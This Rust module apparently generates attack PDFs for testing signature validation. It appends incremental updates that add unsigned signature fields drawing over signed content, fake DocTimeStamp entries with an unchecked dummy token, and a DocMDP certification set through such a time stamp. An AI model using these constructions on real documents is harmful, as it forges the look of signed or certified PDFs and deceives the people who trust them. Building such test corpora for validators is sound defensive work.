//! The sneaky signature without a signer: a field of a seal's size that draws over what was signed and that nobody
//! stands for. It is empty, or a document time stamp fills it, which is nobody's will and certifies nothing either.

use yinxin::pdf::signature::reserve;
use yinxin::pdf::{Dictionary, Limits, Object, PdfFile, Reference, Stream, StreamData, Update};

use super::target::{Target, reference};
use super::updates::{add_to_page, annotation, appearance, put_form, with_field};
use super::{Attack, Error};

/// What stands for a time stamp: it is not looked into before it is asked what it covers.
const TOKEN: [u8; 5] = [0x30, 3, 2, 1, 1];

/// Such fields in a signed document.
pub(crate) fn all(signed: &[u8]) -> Result<Vec<Attack>, Error> {
    let target = Target::read(signed)?;
    Ok(vec![
        Attack::new("sneaky-signature-time-stamp-of-nobody", time_stamped(&target, true)?),
        Attack::new(
            "sneaky-signature-time-stamp-that-is-none",
            time_stamped(&target, false)?,
        ),
        drawing(&target, "picture-in-a-stream", |update, entries| {
            let picture = Object::Reference(update.add(&appearance())?);
            let dictionary = Dictionary::new().with("N", picture);
            let data = StreamData::Held(b" ".to_vec());
            let states = update.add(&Object::Stream(Stream { dictionary, data }))?;
            entries.set("AP", Object::Reference(states));
            Ok(())
        })?,
        drawing(&target, "colours-and-no-picture", |_, entries| {
            let white = Object::Array([1, 1, 1].map(Object::Integer).to_vec());
            let colours = Dictionary::new().with("BG", white);
            entries.set("MK", Object::Dictionary(colours));
            entries.set("AP", Object::Dictionary(Dictionary::new()));
            Ok(())
        })?,
    ])
}

/// An empty field that draws in a way of its own, which `make` puts into its entries.
fn drawing(
    target: &Target,
    name: &str,
    make: impl FnOnce(&mut Update, &mut Dictionary) -> Result<(), Error>,
) -> Result<Attack, Error> {
    let bytes = target.updated(|update| {
        let mut entries = small(target);
        make(update, &mut entries)?;
        let added = update.add(&Object::Dictionary(entries))?;
        add_to_page(update, target, added)?;
        put_form(update, target, with_field(target, added))
    })?;
    Ok(Attack::new(format!("sneaky-signature-{name}"), bytes))
}

fn time_stamped(target: &Target, is_seen: bool) -> Result<Vec<u8>, Error> {
    let bytes = target.bytes.as_slice();
    let mut update = PdfFile::open(&bytes, &Limits::UPLOAD)?.update()?;
    let value = update.allocate();
    let mut entries = small(target).with("V", Object::Reference(value));
    if is_seen {
        let picture = update.add(&appearance())?;
        let states = Dictionary::new().with("N", Object::Reference(picture));
        entries.set("AP", Object::Dictionary(states));
    } else {
        entries.set("Rect", Object::Array([0; 4].map(Object::Integer).to_vec()));
    }
    let added = update.add(&Object::Dictionary(entries))?;
    add_to_page(&mut update, target, added)?;
    put_form(&mut update, target, with_field(target, added))?;
    filled(bytes, update, value)
}

/// Fills a field that was there with such a time stamp, whose object has these further entries then.
pub(super) fn time_stamped_in(target: &Target, field: u32, further: &[(&str, Object)]) -> Result<Vec<u8>, Error> {
    let bytes = target.bytes.as_slice();
    let mut update = PdfFile::open(&bytes, &Limits::UPLOAD)?.update()?;
    let value = update.allocate();
    let mut entries = target.entries_of(field)?.with("V", Object::Reference(value));
    further.iter().for_each(|(key, value)| entries.set(key, value.clone()));
    update.put(Reference::new(field), &Object::Dictionary(entries))?;
    filled(bytes, update, value)
}

/// The document with an update whose object of that number is such a time stamp.
fn filled(bytes: &[u8], update: Update, value: Reference) -> Result<Vec<u8>, Error> {
    let entries = Dictionary::new()
        .with("Type", Object::name("DocTimeStamp"))
        .with("SubFilter", Object::name("ETSI.RFC3161"));
    let reserved = reserve(update, value, &entries, 8, &[7; 16])?;
    Ok([bytes, &reserved.fill(&TOKEN)?].concat())
}

/// A document whose form is an object, certified by such a time stamp to let notes be made: what somebody signs in it
/// then is by no certification open to them (ISO 32000-2, 12.8.5).
pub(crate) fn certified(document: &[u8]) -> Result<Vec<u8>, Error> {
    let file = PdfFile::open(&document, &Limits::UPLOAD)?;
    let (view, mut update) = (file.latest(), file.update()?);
    let (value, field) = (update.allocate(), update.allocate());
    let entries = Dictionary::new()
        .with("FT", Object::name("Sig"))
        .with("T", Object::String(b"Certified".to_vec()))
        .with("V", Object::Reference(value));
    update.put(field, &Object::Dictionary(entries))?;
    let catalog = view.catalog()?;
    let holder = reference(&catalog, "AcroForm")?;
    let object = view.object(holder)?;
    let form = object.value.as_dictionary().ok_or("no form")?;
    let fields = form.get("Fields").and_then(Object::as_array).unwrap_or_default();
    let fields = [fields, &[Object::Reference(field)]].concat();
    update.put(
        holder,
        &Object::Dictionary(form.clone().with("Fields", Object::Array(fields))),
    )?;
    let named = Dictionary::new().with("DocMDP", Object::Reference(value));
    let root = view.revision().root().ok_or("no root")?;
    update.put(
        root,
        &Object::Dictionary(catalog.with("Perms", Object::Dictionary(named))),
    )?;
    let parameters = Dictionary::new().with("P", Object::Integer(3));
    let transform = Dictionary::new()
        .with("TransformMethod", Object::name("DocMDP"))
        .with("TransformParams", Object::Dictionary(parameters));
    let entries = Dictionary::new()
        .with("Type", Object::name("DocTimeStamp"))
        .with("SubFilter", Object::name("ETSI.RFC3161"))
        .with("Reference", Object::Array(vec![Object::Dictionary(transform)]));
    let reserved = reserve(update, value, &entries, 8, &[7; 16])?;
    Ok([document, &reserved.fill(&TOKEN)?].concat())
}

/// A note on the first page of a signed document.
pub(crate) fn noted(target: &Target) -> Result<Vec<u8>, Error> {
    target.updated(|update| {
        let note = update.add(&Object::Dictionary(annotation("Text", target.page)))?;
        add_to_page(update, target, note)
    })
}

fn small(target: &Target) -> Dictionary {
    let corners = [50, 50, 150, 150].map(Object::Integer).to_vec();
    annotation("Widget", target.page)
        .with("FT", Object::name("Sig"))
        .with("T", Object::String(b"Approval".to_vec()))
        .with("Rect", Object::Array(corners))
}
